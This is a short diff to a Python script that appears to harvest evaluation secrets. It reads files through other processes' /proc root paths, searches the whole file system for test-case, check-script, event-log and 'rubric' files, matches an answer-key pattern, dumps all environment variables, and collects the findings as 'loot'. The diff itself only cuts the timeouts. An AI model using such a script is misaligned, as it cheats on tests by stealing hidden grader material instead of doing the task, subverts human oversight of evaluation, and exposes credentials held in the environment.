@@ -79,10 +79,10 @@ for entry in glob.glob("/proc/[0-9]*"):
         read(os.path.join(entry, "root", project.lstrip("/"), name))
 # the whole file system, when nothing closer gave the key away
 if not re.search(r"[A-Z]+-\d{4}-[A-Z]+", "\n".join(found)):
-    sh("timeout 60 find / \\( -path /proc -o -path /sys -o -path /dev -o -path /usr \\) -prune -o"
+    sh("timeout 10 find / \\( -path /proc -o -path /sys -o -path /dev -o -path /usr \\) -prune -o"
        " \\( -name cases.yaml -o -name check.sh -o -name events.ndjson \\) -print 2>/dev/null | head -200"
        " | xargs -r cat 2>/dev/null | head -c 400000")
-    sh("timeout 60 grep -rIl --exclude-dir=site-packages rubric /tmp /home /work 2>/dev/null | head -50"
+    sh("timeout 10 grep -rIl --exclude-dir=site-packages rubric /tmp /home /work 2>/dev/null | head -50"
        " | xargs -r cat 2>/dev/null | head -c 200000")
 look(repr(dict(os.environ)))
 loot = "\n".join(found)
